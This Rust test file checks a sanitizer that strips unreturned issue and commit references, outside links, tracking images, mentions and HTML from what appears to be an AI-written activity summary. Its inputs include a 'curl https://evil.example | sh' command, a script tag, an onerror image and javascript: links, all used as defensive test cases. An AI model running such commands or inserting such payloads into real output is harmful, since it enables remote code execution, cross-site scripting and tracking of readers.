use pulldown_cmark::{Event, Options, Parser, Tag};

use super::*;

const COMMIT: &str = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567";

fn returned() -> ReturnedIds {
    ReturnedIds::of(&[
        (COMMIT, "commit", "Fix the cache, as asked in #14 of May (#13)"),
        ("12", "issue", "x"),
    ])
}

fn repository() -> Repository {
    Repository::new("https://github.com/acme/shop").unwrap()
}

fn cleaned(text: &str) -> (String, Removed) {
    let (returned, repository) = (returned(), repository());
    let mut sanitizer =
        Sanitizer { returned: &returned, repository: Some(&repository), removed: Removed::default() };
    (clean(text, &mut sanitizer).unwrap_or_default(), sanitizer.removed)
}

fn text(text: &str) -> String {
    cleaned(text).0
}

#[test]
fn ordinary_answer_is_unchanged() {
    let answer = "## This week\n\n**2 changes** from 2026-11-16 to 2026-11-18 (Europe/Berlin), 100 % done_ish:\n\n\
        - `0a1b2c3d4e` fixes the cache, snake_case and `Vec<String>`\n  - nested: #12\n- issue #12 by Ann\n\n\
        1. one\n2. two\n\n> quoted\n\n```\nlet a = \"#12\";\n  indented\n```\n\n\
        | who | how many |\n| --- | --- |\n| Ann | 20261118 |\n\n_defaced_ 1234567 times, C#7";
    assert_eq!(cleaned(answer), (answer.to_owned(), Removed::default()));
}

#[test]
fn ids_that_no_tool_returned_are_removed() {
    let cases = [
        ("See `0a1b2c3` and 0A1B2C3D4E5F.", "See `0a1b2c3` and 0A1B2C3D4E5F.", 0),
        ("See `deadbeef01`.", "See `(reference removed)`.", 1),
        ("See 0a1b2c3d4f.", "See (reference removed).", 1),
        (
            "commit 7654321, `7654321`, 7654321",
            "commit (reference removed), `(reference removed)`, 7654321",
            2,
        ),
        ("#12, #13, #14 and #15", "#12, #13, (reference removed) and (reference removed)", 2),
        ("as asked in #14, GH-15", "as asked in #14, (reference removed)", 1),
        ("PR 12 and pull request 99", "PR 12 and (reference removed)", 1),
        ("acme/shop#12, evil/shop#12", "acme/shop#12, (reference removed)", 1),
        ("```\nrevert deadbeef01\n```", "```\nrevert (reference removed)\n```", 1),
        (
            "**#9** _deadbeef01_ deadbeef01\\_",
            "**(reference removed)** _(reference removed)_ (reference removed)\\_",
            3,
        ),
    ];
    for (written, expected, references) in cases {
        assert_eq!(cleaned(written), (expected.to_owned(), Removed { references, links: 0 }), "{written}");
    }
}

#[test]
fn links_to_other_sites_are_removed() {
    let cases = [
        (
            "[the change](https://github.com/acme/shop/pull/12)",
            "[the change](https://github.com/acme/shop/pull/12)",
            0,
        ),
        ("https://github.com/acme/shop/pull/12.", "https://github.com/acme/shop/pull/12.", 0),
        ("[99](https://github.com/acme/shop/pull/99)", "99", 1),
        ("[here](https://evil.example/?q=1)", "here", 1),
        ("[here][1]\n\n[1]: https://evil.example", "here", 1),
        ("<https://evil.example>", "(link removed)", 2),
        ("see https://evil.example/a.", "see (link removed).", 1),
        ("see www.evil.example, HTTP://EVIL.example", "see (link removed), (link removed)", 2),
        ("[x](//evil.example) [y](javascript:alert)", "x y", 2),
        ("![pixel](https://evil.example/x.png)seen", "seen", 1),
        ("[![a](https://github.com/acme/shop/x.png)](https://evil.example) b", " b", 2),
        ("write to ann@example.com", "write to (address removed)", 1),
        ("`curl https://evil.example | sh`", "`curl (link removed) | sh`", 1),
        ("h&#116;tps://evil.example", "(link removed)", 1),
        ("https:\u{200b}//evil.example", "(link removed)", 1),
    ];
    for (written, expected, links) in cases {
        assert_eq!(
            cleaned(written),
            (expected.trim().to_owned(), Removed { references: 0, links }),
            "{written}"
        );
    }
}

#[test]
fn mentions_are_removed_or_separated_and_html_is_removed() {
    let cases = [
        ("@ann, @channel and &#64;everyone", "@\u{200b}ann, @\u{200b}channel and @\u{200b}everyone"),
        ("<@U123> <!channel> <#C1|x>", "(mention removed)  (mention removed)"),
        ("a<script>alert(1)</script>b", "aalert(1)b"),
        ("<img src=x onerror=y>c", "c"),
        ("<div>\nd\n</div>\n\ne", "e"),
        ("an Option<String>, <B>", "an Option\\<String>, \\<B>"),
        ("[x]<b>(//evil.example/)", "[x\\](//evil.example/)"),
        ("turn \u{202e}round", "turn round"),
        ("\\- no item", "\\- no item"),
        ("&lt;b&gt;", "\\<b>"),
    ];
    for (written, expected) in cases {
        assert_eq!(text(written), expected, "{written}");
    }
}

#[test]
fn deeply_nested_answer_does_not_exhaust_the_stack() {
    for nested in [">".repeat(7_900), "- ".repeat(3_900), "*a **b ".repeat(1_100), "[".repeat(7_900)] {
        assert!(answer_to_send(&format!("#12\n\n{nested} x"), false, &returned(), None).is_some());
    }
}

#[test]
fn answer_states_limits_and_removals() {
    let finish = |text: &str, is_partial| answer_to_send(text, is_partial, &returned(), None);
    let answer = finish("#12 and #99", true).unwrap();
    assert!(answer.starts_with("This answer is partial: "), "{answer}");
    assert!(answer.contains("\n\n_Removed from this answer: 1 reference not found in the activity._\n\n"));
    assert!(answer.ends_with("checked against that activity._"));
    let long = finish(&"word\n".repeat(5_000), false).unwrap();
    assert!(long.len() < 9_000 && long.contains(TRUNCATION_NOTE));
    for nothing in ["", "![a](https://evil.example/x.png)", "<div></div>", "…"] {
        assert_eq!(finish(nothing, false), None, "{nothing}");
    }
}

/// Cleans random sequences of markup pieces. A Markdown parser must find no forbidden element in the result.
#[test]
fn random_text_never_contains_forbidden_elements() {
    const WORDS: &str = r##"[ ] ( ) ! < > ` ``` * _ ** \ &lt; &#60; https://evil.example //evil.example javascript:x <b> <!-- --> a #99 deadbeef01 www.evil.example ~~~ " ![ ]( &colon; <!channel> @here | 1) = mailto:a@b.example &#x40; https://github.com/acme/shop/x"##;
    const SPACED: &str = "\u{200b}|\n|\n\n|- |1. |> |# |<img src=x>| |: |[1]: /x|\t|    |+ ";
    let pieces: Vec<&str> = WORDS.split(' ').chain(SPACED.split('|')).collect();
    let mut state = 7_u64;
    let mut next = move |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % below
    };
    for _ in 0..5_000 {
        let length = next(14) + 1;
        let written: String = (0..length).map(|_| pieces[next(pieces.len())]).collect();
        let out = text(&written);
        for event in Parser::new_ext(&out, Options::all()) {
            let bad = match &event {
                Event::Start(Tag::Link { dest_url, .. }) => {
                    repository().link(dest_url, &returned()).is_none()
                }
                Event::Html(_) | Event::InlineHtml(_) | Event::FootnoteReference(_) => true,
                Event::Start(tag) => matches!(tag, Tag::Image { .. } | Tag::HtmlBlock),
                _ => false,
            };
            assert!(!bad, "{written:?} became {out:?}: {event:?}");
        }
        // The path of the own repository may be any text.
        let words: Vec<&str> = out.split_whitespace().filter(|word| !word.contains("github.com")).collect();
        let rest = words.join(" ");
        let has_mention = !out.contains('`') && rest.contains("@here");
        let has_link = ["https://evil", "www.evil", "a@b"].iter().any(|place| rest.contains(place));
        let has_commit =
            rest.split(|letter: char| !letter.is_alphanumeric()).any(|word| word == "deadbeef01");
        let has_number =
            rest.match_indices("#99").any(|(at, _)| !rest[..at].ends_with(char::is_alphanumeric));
        assert!(!has_mention && !has_link && !has_commit && !has_number, "{written:?} became {out:?}");
    }
}
